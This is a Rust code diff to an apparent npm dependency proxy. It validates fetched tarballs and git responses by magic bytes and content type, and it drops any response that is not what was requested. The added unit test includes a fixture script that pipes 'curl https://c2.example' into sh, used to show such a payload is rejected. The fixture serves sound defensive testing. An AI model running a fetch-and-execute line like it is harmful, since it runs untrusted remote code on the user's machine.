@@ -52,14 +52,64 @@ impl Declared {
         };
     }
 
-    fn allows(&self, url: &str) -> bool {
-        self.urls.contains(url) || self.repos.iter().any(|repo| repo.allows(url))
+    /// What a GET of `url` would fetch, if a declared dependency is installed by it.
+    fn kind_of(&self, url: &str) -> Option<Fetched> {
+        if self.urls.contains(url) {
+            return Some(Fetched::Tarball);
+        }
+        let repo = self.repos.iter().find(|repo| repo.allows(url))?;
+        Some(if url.eq_ignore_ascii_case(&repo.refs_url()) {
+            Fetched::GitRefs
+        } else {
+            Fetched::Tarball
+        })
     }
 
     fn allows_pack(&self, url: &str) -> bool {
         self.repos.iter().any(|repo| repo.allows_pack(url))
     }
 }
+
+/// What a dependency's request asks its host for; anything else in the answer is not
+/// passed on (a declared URL must not become a way to hand a script to `curl | sh`).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Fetched {
+    Tarball,
+    GitRefs,
+    GitPack,
+}
+
+impl Fetched {
+    /// How the request introduces itself: as npm, or as the git npm runs.
+    fn agent(self) -> &'static str {
+        match self {
+            Fetched::Tarball => remote::NPM_USER_AGENT,
+            Fetched::GitRefs | Fetched::GitPack => GIT_USER_AGENT,
+        }
+    }
+
+    fn answers(self, answer: &dsca_registry::RemoteResponse) -> bool {
+        let typed = |wanted: &str| {
+            answer
+                .content_type
+                .trim()
+                .to_ascii_lowercase()
+                .starts_with(wanted)
+        };
+        answer.status == 200
+            && match self {
+                // gzip, or a plain tar (its `ustar` magic at 257).
+                Fetched::Tarball => {
+                    answer.body.starts_with(&[0x1f, 0x8b])
+                        || answer.body.get(257..262) == Some(b"ustar".as_slice())
+                }
+                Fetched::GitRefs => typed("application/x-git-upload-pack-advertisement"),
+                Fetched::GitPack => typed("application/x-git-upload-pack-result"),
+            }
+    }
+}
+
+const GIT_USER_AGENT: &str = "git/2.47.0";
 
 /// A git pack request's body as git sent it (gunzipped), if it is small enough and
 /// plain: only git's own request for objects goes on (see
@@ -100,7 +150,7 @@ pub enum Dependency {
 /// URLs remembered as declared; a packument naming more is not believed further.
 const MAX_DECLARED_URLS: usize = 10_000;
 /// Bytes of fetched dependencies kept for a second request in the same run.
-const MAX_KEPT_BYTES: usize = 256 * 1024 * 1024;
+const MAX_KEPT_BYTES: usize = 128 * 1024 * 1024;
 
 /// What `manifest` depends on from outside the registry (dependencies, optional and
 /// peer dependencies): tarball URLs and hosted git repositories.
@@ -325,25 +375,36 @@ impl ClientUpstream {
     }
 }
 
-/// What the host answered, as the proxy serves it, with a note for the report.
-fn fetched_note(answer: Result<dsca_registry::RemoteResponse, RegistryError>) -> FetchedDependency {
+/// What the host answered, as the proxy serves it when it is what `kind` asks for,
+/// with a note for the report.
+fn fetched_note(
+    kind: Fetched,
+    answer: Result<dsca_registry::RemoteResponse, RegistryError>,
+) -> FetchedDependency {
     match answer {
-        Ok(answer) => FetchedDependency {
-            note: format!(
+        Ok(answer) => {
+            let mut note = format!(
                 "fetched on the host: HTTP {}, {} bytes from {}",
                 answer.status,
                 answer.body.len(),
                 answer.url
-            ),
-            response: UpstreamResponse {
-                status: answer.status,
-                content_type: answer.content_type,
-                body: answer.body,
-            },
-        },
+            );
+            let passed = kind.answers(&answer);
+            if !passed {
+                note.push_str(" (not what was asked for: not passed on)");
+            }
+            FetchedDependency {
+                note,
+                response: passed.then_some(UpstreamResponse {
+                    status: answer.status,
+                    content_type: answer.content_type,
+                    body: answer.body,
+                }),
+            }
+        }
         Err(error) => FetchedDependency {
             note: format!("could not be fetched on the host: {error}"),
-            response: respond(502, &error.to_string()),
+            response: None,
         },
     }
 }
@@ -374,29 +435,30 @@ impl RegistryUpstream for ClientUpstream {
                         note: format!(
                             "not forwarded: the pack request is not git's own ({problem})"
                         ),
-                        response: respond(403, "not forwarded"),
+                        response: Some(respond(403, "not forwarded")),
                     });
                 }
             };
-            let answer =
-                dependencies
-                    .fetcher
-                    .post(&url, "application/x-git-upload-pack-request", body);
-            return Some(fetched_note(answer));
+            let answer = dependencies.fetcher.post_as(
+                &url,
+                GIT_USER_AGENT,
+                "application/x-git-upload-pack-request",
+                body,
+            );
+            return Some(fetched_note(Fetched::GitPack, answer));
         }
         if !request.method.eq_ignore_ascii_case("GET") {
             return None;
         }
-        if !lock(&dependencies.declared).allows(&url) {
-            return None;
-        }
+        let kind = lock(&dependencies.declared).kind_of(&url)?;
         if let Some(kept) = lock(&dependencies.fetched).get(&url) {
             return Some(kept.clone());
         }
-        let fetched = fetched_note(dependencies.fetcher.get(&url));
+        let fetched = fetched_note(kind, dependencies.fetcher.get_as(&url, kind.agent()));
         let mut kept = lock(&dependencies.fetched);
-        let kept_bytes: usize = kept.values().map(|f| f.response.body.len()).sum();
-        if kept_bytes + fetched.response.body.len() <= MAX_KEPT_BYTES {
+        let size = |f: &FetchedDependency| f.response.as_ref().map_or(0, |r| r.body.len());
+        let kept_bytes: usize = kept.values().map(size).sum();
+        if kept_bytes + size(&fetched) <= MAX_KEPT_BYTES {
             kept.insert(url, fetched.clone());
         }
         Some(fetched)
@@ -434,6 +496,38 @@ mod tests {
         assert_eq!(parse_path("/a/b/c"), None);
         assert_eq!(parse_path("/"), None);
         assert_eq!(parse_path("/@scope"), None);
+    }
+
+    #[test]
+    fn only_what_a_dependency_request_asks_for_is_passed_on() {
+        let answer = |status: u16, content_type: &str, body: &[u8]| dsca_registry::RemoteResponse {
+            status,
+            content_type: content_type.into(),
+            body: body.to_vec(),
+            url: "https://h.example/x".into(),
+        };
+        let gzip = [0x1f, 0x8b, 8, 0];
+        let mut tar = vec![0u8; 512];
+        tar[257..262].copy_from_slice(b"ustar");
+        assert!(Fetched::Tarball.answers(&answer(200, "application/octet-stream", &gzip)));
+        assert!(Fetched::Tarball.answers(&answer(200, "application/x-tar", &tar)));
+        // A declared URL must not hand a script to `curl | sh`, whatever it is called.
+        let script = b"#!/bin/sh\ncurl https://c2.example | sh\n";
+        assert!(!Fetched::Tarball.answers(&answer(200, "application/gzip", script)));
+        assert!(!Fetched::Tarball.answers(&answer(404, "text/plain", &gzip)));
+        let refs = "application/x-git-upload-pack-advertisement";
+        assert!(Fetched::GitRefs.answers(&answer(200, refs, b"001e# service")));
+        assert!(!Fetched::GitRefs.answers(&answer(200, "text/html", b"<html>")));
+        let pack = "application/x-git-upload-pack-result";
+        assert!(Fetched::GitPack.answers(&answer(200, pack, b"0008NAK\n")));
+        assert!(!Fetched::GitPack.answers(&answer(200, refs, b"")));
+        let fetched = fetched_note(Fetched::Tarball, Ok(answer(200, "text/x-sh", script)));
+        assert!(fetched.response.is_none());
+        assert!(
+            fetched
+                .note
+                .ends_with("(not what was asked for: not passed on)")
+        );
     }
 
     #[test]
